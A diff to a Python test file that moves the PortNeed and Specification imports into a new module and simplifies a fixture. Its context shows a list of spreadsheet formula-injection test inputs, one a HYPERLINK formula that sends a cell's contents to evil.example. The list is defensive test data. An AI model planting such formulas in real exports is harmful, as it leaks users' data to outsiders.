@@ -11,11 +11,12 @@ from ipaddress import IPv4Address
 from hypothesis import strategies as st
 from strategies import device_names, free_texts, names, port_names
 
-from netaudit.model.bill import Bill, Box, Bulk, Cut, FreePorts, PortNeed, RunLength, Specification
+from netaudit.model.bill import Bill, Box, Bulk, Cut, FreePorts, RunLength
 from netaudit.model.goods import Goods, Item, Total
 from netaudit.model.moving import Acceptance, AddressCard, BenchTest, Label, Mount, PortRow, Setting, Step
 from netaudit.model.place import PortRef
 from netaudit.model.plan import Price
+from netaudit.model.specification import PortNeed, Specification
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-1+1", "@SUM(1+1)", "＝1+1", "＋1", "－1", "＠x",
@@ -53,7 +54,7 @@ TWINAX = Item(
 )
 UNMEASURED = Item(Goods("cord", None, "6A", False, None, None, None), 1, 1, ("C09",))
 MODULE = Item(
-    Goods("module", "10GBASE-SR", None, None, None, "lc"),
+    Goods("module", "10GBASE-SR"),
     2,
     1,
     ("core/10", "vault/more"),
